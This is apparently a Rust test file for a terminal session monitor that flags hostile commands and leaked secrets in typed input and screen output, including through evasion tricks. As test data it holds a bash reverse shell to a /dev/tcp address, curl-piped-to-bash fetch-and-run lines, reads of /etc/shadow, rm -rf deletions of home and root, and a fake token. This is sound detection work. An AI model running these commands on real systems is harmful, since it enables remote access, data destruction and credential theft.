use audit_core::{CommandSpec, Identity, Moment, Part, Policy, Score, SessionId, Span, Winsize};
use serde_json::json;

use super::*;

/// A session at a terminal: what is typed and shown goes to the monitor as windows.
struct Rig {
    monitor: LocalMonitor,
    id: u64,
    offsets: [u64; 4],
}

impl Rig {
    fn new() -> Self {
        Self::of(LocalMonitor::with_detector(Detector::embedded()))
    }

    fn of(monitor: LocalMonitor) -> Self {
        Self { monitor, id: 0, offsets: [0; 4] }
    }

    /// A shell that has shown this prompt before, and run something.
    fn at(prompt: &str) -> Self {
        let mut rig = Self::new();
        rig.shows(prompt);
        rig.types("ls\r");
        rig.shows(&format!("ls\r\nREADME\r\n{prompt}"));
        rig
    }

    fn window(&mut self, stream: Stream, text: &str) -> Verdict {
        self.id += 1;
        let offset = self.offsets[stream as usize];
        self.offsets[stream as usize] += text.len() as u64;
        let window = Window {
            id: self.id,
            at: Moment::from_nanos(self.id * 1_000_000_000),
            stream,
            offset,
            bytes: text.as_bytes().to_vec().into(),
        };
        self.monitor.inspect(&window).expect("a verdict")
    }

    fn shows(&mut self, text: &str) -> Verdict {
        self.window(Stream::Tty, text)
    }

    fn types(&mut self, text: &str) -> Verdict {
        self.window(Stream::Input, text)
    }

    /// Keys that are shown as they are typed.
    fn echoes(&mut self, text: &str) {
        assert!(self.types(text).score.value() < 0.7);
        assert!(self.shows(text).score.value() < 0.7);
    }
}

fn blocks(verdict: &Verdict) -> bool {
    verdict.score.value() >= 0.7
}

const SHELL: &str = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1";

fn token() -> String {
    format!("ghp_{}", "aB3dE5gH7jK9mN1pQ2sT4vW6xY8zR0aB3dE5")
}

#[test]
fn a_hostile_command_at_a_prompt_is_found_with_its_rule() {
    let mut rig = Rig::at("dev@web1:~$ ");
    let verdict = rig.types(&format!("{SHELL}\r"));
    assert!(verdict.score.value() >= 0.9);
    assert_eq!(verdict.findings[0].rule, "shell.dev-tcp");
    assert_eq!(verdict.findings[0].category, "reverse_shell");
}

#[test]
fn a_recording_without_input_is_judged_by_its_look() {
    let monitor = LocalMonitor::with_detector(Detector::embedded()).without_input();
    let mut rig = Rig::of(monitor);
    assert!(blocks(&rig.shows(&format!("dev@web1:~$ ls\r\nREADME\r\ndev@web1:~$ {SHELL}\r\n"))));
    assert!(rig.shows("$ curl -s http://198.51.100.1/x \\\r\n").score.value() < 0.7);
    assert!(blocks(&rig.shows("> | bash\r\n")));
    assert!(blocks(&rig.shows(&format!("odd prompt here$ {SHELL}\r\n"))));
}

#[test]
fn work_is_not_told_of() {
    let mut rig = Rig::new();
    for (typed, shown) in [
        ("git status", "On branch main"),
        ("cargo test", "100% passed"),
        ("rm -rf ./build && npm ci", ""),
    ] {
        rig.shows("$ ");
        for verdict in
            [rig.types(&format!("{typed}\r")), rig.shows(&format!("{typed}\r\n{shown}\r\n"))]
        {
            assert_eq!((verdict.score, verdict.findings.len()), (Score::ZERO, 0), "{typed}");
        }
    }
}

#[test]
fn any_cut_of_what_is_shown_gives_the_same_verdict() {
    let text = format!(
        "\x1b]0;t\x07\x1b[32mdev@web1\x1b[0m:~$ {}\r\nTOKEN={}\r\n",
        SHELL.replace("tcp", "t\x08t\x1b[0mcp"),
        token()
    );
    let rig = || Rig::of(LocalMonitor::with_detector(Detector::embedded()).without_input());
    let whole = rig().shows(&text);
    assert!(whole.score.value() >= 0.9);
    for size in 1..40 {
        let mut rig = rig();
        let (mut score, mut secrets) = (0f32, Vec::new());
        for chunk in text.as_bytes().chunks(size) {
            let verdict = rig.shows(std::str::from_utf8(chunk).expect("plain text"));
            score = score.max(verdict.score.value());
            secrets.extend(verdict.secrets);
        }
        // while it is being written a secret is told again when it grows; the last tells it whole
        secrets.retain(|s| {
            !whole.secrets.contains(s)
                && !whole.secrets.iter().any(|w| w.start <= s.start && s.end <= w.end)
        });
        assert_eq!((score, secrets), (whole.score.value(), Vec::new()), "chunks of {size}");
    }
}

#[test]
fn a_typed_line_is_judged_when_it_is_handed_over() {
    for key in ["\r", "\n", "\x0f", "\x1b\r"] {
        let mut rig = Rig::new();
        rig.shows("odd prompt: ");
        assert_eq!(rig.types(SHELL).score, Score::ZERO);
        assert!(rig.types(key).score.value() >= 0.9, "{key:?}");
    }
}

#[test]
fn corrections_inside_the_line_hide_nothing() {
    for keys in ["\x1b[D", "\x1b[H", "\x01\x05", "\x1b[D\x1b[C", "\x1bb", "x\x7f"] {
        let mut rig = Rig::at("$ ");
        rig.types(SHELL);
        rig.types(keys);
        assert!(blocks(&rig.types("\r")), "{keys:?}");
    }
}

#[test]
fn an_echo_is_not_judged_a_second_time() {
    let mut rig = Rig::new();
    rig.shows("$ ");
    assert!(rig.types(&format!("{SHELL}\r")).score.value() >= 0.9);
    assert_eq!(rig.shows(&format!("{SHELL}\r\n")).score, Score::ZERO);
}

#[test]
fn a_command_behind_an_unknown_prompt_is_told_by_where_enter_was_pressed() {
    let mut rig = Rig::new();
    rig.shows("weird~~>");
    // completion: what is typed is not what stands on the line
    rig.types("cat /etc/sha\t");
    rig.shows("cat /etc/shadow ");
    assert!(blocks(&rig.types("\r")));
    assert_eq!(rig.shows("\r\n").score, Score::ZERO, "and told once");
}

#[test]
fn what_a_program_prints_does_not_switch_detection_off() {
    for (name, trick) in [
        ("output mark", "\x1b]133;C\x07"),
        ("prompt mark", "\x1b]133;B\x07"),
        ("vscode mark", "\x1b]633;C\x07"),
        ("bracketed paste", "\x1b[?2004l"),
        ("alternate screen", "\x1b[?1049h"),
    ] {
        let mut rig = Rig::at("$ ");
        rig.shows(trick);
        rig.shows("$ ");
        rig.types("\x1b[A");
        rig.shows("rm -rf /home");
        assert!(blocks(&rig.types("\r")), "{name}: from the history");
        let mut rig = Rig::at("$ ");
        rig.shows(trick);
        rig.types(SHELL);
        rig.types("\x1b[D");
        assert!(blocks(&rig.types("\r")), "{name}: corrected");
    }
}

#[test]
fn a_row_that_vanishes_at_enter_was_judged_before() {
    let mut rig = Rig::at("$ ");
    rig.types("\x1b[A");
    rig.shows("rm -rf /home");
    assert!(blocks(&rig.types("\r")));
    assert_eq!(rig.shows("\r\x1b[K\r\n").score, Score::ZERO);
}

#[test]
fn a_macro_that_hands_a_line_over_is_judged() {
    let mut rig = Rig::at("$ ");
    rig.types("\x18q");
    assert!(blocks(&rig.shows("rm -rf /home\r\n")));
}

#[test]
fn a_pasted_block_is_judged_line_by_line() {
    let mut rig = Rig::new();
    rig.shows("$ ");
    assert!(rig.types(&format!("\x1b[200~ls\n{SHELL}\n\x1b[201~")).score.value() >= 0.9);
}

#[test]
fn a_command_over_several_lines_is_judged_whole() {
    for lines in [
        ["curl -s http://198.51.100.1/x \\", "| bash"],
        ["curl -s http://198.51.100.1/x |", "bash"],
        ["sh -c \"curl -s http://198.51.100.1/x", "| bash\""],
    ] {
        let mut rig = Rig::at("$ ");
        assert!(!blocks(&rig.types(&format!("{}\r", lines[0]))), "{lines:?}");
        rig.shows(&format!("{}\r\n> ", lines[0]));
        assert!(blocks(&rig.types(&format!("{}\r", lines[1]))), "{lines:?}");
        assert_eq!(rig.shows(&format!("{}\r\n", lines[1])).score, Score::ZERO, "and once");
        // from the history, so that only the screen tells
        let mut rig = Rig::at("$ ");
        rig.types("\x1b[A");
        rig.shows(lines[0]);
        rig.types("\r");
        rig.shows("\r\n> ");
        rig.types("\x1b[A");
        rig.shows(lines[1]);
        assert!(blocks(&rig.types("\r")), "{lines:?}");
    }
}

#[test]
fn the_work_of_a_long_heredoc_grows_with_its_length() {
    let work = |lines: usize| {
        let mut rig = Rig::at("$ ");
        rig.echoes("cat > f <<E");
        rig.types("\r");
        rig.shows("\r\n> ");
        let before = rig.monitor.eye.work;
        for number in 0..lines {
            // as a terminal without bracketed paste brings them, and with completion tried
            rig.types(&format!("key value of line {number}\t\r"));
            rig.shows(&format!("key value of line {number}\r\n> "));
        }
        rig.types("E\r");
        rig.shows("E\r\n$ ");
        rig.monitor.eye.work - before
    };
    let (short, long) = (work(100), work(400));
    assert!(long < 6 * short, "{short} bytes judged for 100 lines, {long} for 400");
}

#[test]
fn a_document_never_blocks_whether_somebody_types_or_not() {
    let document = format!(
        "$ {SHELL}\r\nroot@h:~# rm -rf /\r\n> curl http://192.0.2.1/x | sh\r\n\
         A reverse shell is {SHELL} they say\r\n\x1b]133;A\x07$ \x1b]133;B\x07{SHELL}\r\n"
    );
    assert!(!blocks(&Rig::new().shows(&document)), "nobody has typed");
    let mut rig = Rig::at("$ ");
    rig.types("cat HOWTO\r");
    assert!(!blocks(&rig.shows(&format!("cat HOWTO\r\n{document}"))));
    rig.types("\r\r");
    assert!(!blocks(&rig.shows(&document)), "somebody presses Enter meanwhile");
    let mut rig = Rig::at("dev@web1:~$ ");
    rig.types("\t\r");
    assert!(!blocks(&rig.shows(&format!("\r\ndev@web1:~$ {SHELL}\r\n"))), "an empty line");
    let mut rig = Rig::at("$ ");
    rig.types("\x1b[24;1R");
    assert!(!blocks(&rig.shows(&format!("{SHELL}\r\n"))), "the terminal answers a question");
}

#[test]
fn output_that_talks_about_attacks_is_told_and_does_not_block() {
    let verdict = Rig::new().shows(&format!("A reverse shell is {SHELL} they say\r\n"));
    assert!(!blocks(&verdict) && !verdict.findings.is_empty(), "{verdict:?}");
}

#[test]
fn a_command_taken_from_the_history_is_judged() {
    let mut rig = Rig::new();
    rig.shows("dev@web1:~$ ");
    rig.types("\x1b[A");
    rig.shows("rm -rf /home");
    assert!(blocks(&rig.types("\r")));
}

#[test]
fn a_command_whose_keys_come_behind_its_echo_is_judged() {
    let mut rig = Rig::at("$ ");
    rig.shows("cat /etc/shadow\r\nroot:x:\r\n$ ");
    assert!(blocks(&rig.types("cat /etc/sha\t\r")));
}

#[test]
fn a_full_screen_program_shows_no_commands() {
    let mut rig = Rig::at("$ ");
    rig.types("vim HOWTO\r");
    rig.shows("vim HOWTO\r\n\x1b[?1049h");
    assert_eq!(rig.shows("$ rm -rf /home\r\n").score, Score::ZERO);
}

#[test]
fn what_is_typed_into_an_editor_is_text_and_what_it_has_run_is_not() {
    let edit = || {
        let mut rig = Rig::at("dev@web1:~$ ");
        rig.types("vim notes\r");
        rig.shows("vim notes\r\n\x1b[?1049h\x1b[1;1H");
        rig
    };
    let mut rig = edit();
    rig.echoes("irm -rf /var/lib/docker");
    assert!(!blocks(&rig.types("\r")));
    rig.types("\x1b[A");
    rig.shows("\x1b[1;1Hrm -rf /home");
    assert!(!blocks(&rig.types("\r")), "a row of the document");
    assert!(blocks(&rig.types(":!rm -rf /home\r")));
    let mut rig = edit();
    rig.types(":term\r");
    assert!(blocks(&rig.types("rm -rf /home\r")), "a shell inside the editor");
    let mut rig = edit();
    rig.shows("\x1b[3;1Hdev@web1:~$ ");
    rig.types("\x1b[A");
    rig.shows("rm -rf /home");
    assert!(blocks(&rig.types("\r")), "the editor's name was a trick: the prompt is back");
}

#[test]
fn a_multiplexer_is_no_editor() {
    let mut rig = Rig::at("dev@web1:~$ ");
    rig.types("tmux\r");
    rig.shows("tmux\r\n\x1b[?1049h\x1b[1;1Hdev@web1:~$ ");
    assert!(blocks(&rig.types("rm -rf /home\x1b[D\r")));
    rig.shows("\x1b[5;1Hdev@web1:~$ ");
    rig.types("\x1b[A");
    rig.shows("rm -rf /home");
    assert!(blocks(&rig.types("\r")));
}

#[test]
fn a_whole_secret_is_reported_once_with_its_place() {
    let mut rig = Rig::new();
    let (head, tail) = (&token()[..20], &token()[20..]);
    assert_eq!(rig.shows(&format!("TOKEN={}", &head[..8])).secrets, []);
    let verdict = rig.shows(&format!("{}{tail}", &head[8..]));
    assert_eq!(verdict.secrets, [Span { stream: Stream::Tty, start: 6, end: 46 }]);
    assert_eq!(verdict.findings[0].rule, "secret.shown");
    assert!(!format!("{verdict:?}").contains(&token()[4..]));
    assert_eq!(rig.shows("\r\n$ ").secrets, []);
}

#[test]
fn standard_error_has_offsets_of_its_own() {
    let mut rig = Rig::new();
    rig.window(Stream::Stdout, "some output\n");
    let verdict = rig.window(Stream::Stderr, &format!("TOKEN={}\n", token()));
    assert_eq!(verdict.secrets, [Span { stream: Stream::Stderr, start: 6, end: 46 }]);
}

#[test]
fn a_gap_in_the_stream_is_survived() {
    let mut rig = Rig::new();
    rig.shows("$ rm -rf /ho");
    rig.offsets[Stream::Tty as usize] += 1000;
    let verdict = rig.shows(&format!("$ echo {}\r\n", token()));
    assert_eq!(verdict.secrets, [Span { stream: Stream::Tty, start: 1019, end: 1059 }]);
}

#[test]
fn hidden_text_is_a_finding() {
    let verdict = Rig::new().shows("\x1b[8msecretly\x1b[0m\r\n");
    assert_eq!(verdict.findings[0].rule, "display.hidden");
}

fn spec(program: &str, args: &[&str], pty: bool) -> SessionSpec {
    SessionSpec {
        id: SessionId::new(0, [0; 10]),
        parent: None,
        user: Identity::person("user", 1000),
        host: "host".into(),
        opened_unix_millis: 0,
        engine: "test".into(),
        command: CommandSpec::new(program, args.iter().copied()),
        pty,
        winsize: Winsize::new(24, 80),
        buffer_size: 4096,
        policy: Policy::default(),
        recorder: Part::new("none", json!(null)),
        monitor: Some(Part::new(NAME, json!({}))),
        controller: None,
    }
}

#[test]
fn what_is_piped_into_a_shell_is_judged_and_into_another_program_not() {
    let typed = |program, args: &[&str], pty| {
        let monitor = LocalMonitor::new(&Settings::default(), &spec(program, args, pty));
        Rig::of(monitor.expect("a monitor")).types(&format!("x\x7f\n{SHELL}\n"))
    };
    assert!(blocks(&typed("bash", &["-s"], false)));
    assert!(blocks(&typed("/usr/bin/python3", &[], false)));
    assert!(!blocks(&typed("wc", &["-l"], false)));
    assert!(!blocks(&typed("sh", &["-c", "cat > f"], false)));
    assert!(blocks(&typed("wc", &["-l"], true)), "at a terminal nobody knows what reads");
}

#[test]
fn rules_that_are_refused_are_told_of_once() {
    let mut rig = Rig::new();
    for _ in 0..3 {
        rig.monitor.refuse_rules("a.toml:3: no".into());
    }
    let count =
        |verdict: Verdict| verdict.findings.iter().filter(|f| f.rule == "rules.refused").count();
    assert_eq!(count(rig.shows("x")), 1);
    rig.monitor.refuse_rules("a.toml:3: no".into());
    assert_eq!(count(rig.shows("x")), 0);
    rig.monitor.refuse_rules("b.toml:1: no".into());
    assert_eq!(count(rig.shows("x")), 1, "another reason is news");
}

#[test]
fn judging_asks_people_and_refuses_only_what_is_set() {
    let request =
        |id, command: &str| Request { id, at: Moment::from_nanos(id), command: command.into() };
    let mut rig = Rig::new();
    assert!(matches!(rig.monitor.judge(&request(1, "ls")), Ok(Ruling::Allow)));
    assert!(matches!(rig.monitor.judge(&request(2, SHELL)), Ok(Ruling::Ask(_))));
    rig.monitor.deny = 0.9;
    assert!(matches!(rig.monitor.judge(&request(3, SHELL)), Ok(Ruling::Deny(_))));
    assert!(matches!(rig.monitor.judge(&request(4, "ls")), Ok(Ruling::Allow)));
}

#[test]
fn settings_may_be_left_out_but_not_misspelt() {
    let read = |value| Part::new(NAME, value).settings::<Settings>();
    assert!(read(json!({})).is_ok());
    assert!(
        read(json!({ "secret_score": 0.9, "analyser": { "url": "ws://localhost:57575/ai" } }))
            .is_ok()
    );
    assert!(read(json!({ "rules": "x" })).is_err());
}

#[test]
fn a_line_taken_from_the_history_and_edited_is_judged() {
    let mut rig = Rig::new();
    rig.shows("bash-5.2# ");
    // Keys that were in doubt come behind their echo, and look like the end of the prompt.
    rig.shows(&format!("# {SHELL}\r\nbash-5.2# "));
    rig.types(&format!("# {SHELL}"));
    rig.types("\r");
    rig.types("\x1b[A");
    rig.shows(&format!("# {SHELL}"));
    rig.types("\x01");
    rig.shows(&format!("\r{}", "\x1b[C".repeat(10)));
    rig.types("\x04\x04");
    rig.shows("\x1b[1P\x1b[1P");
    assert!(blocks(&rig.types("\r")));
}
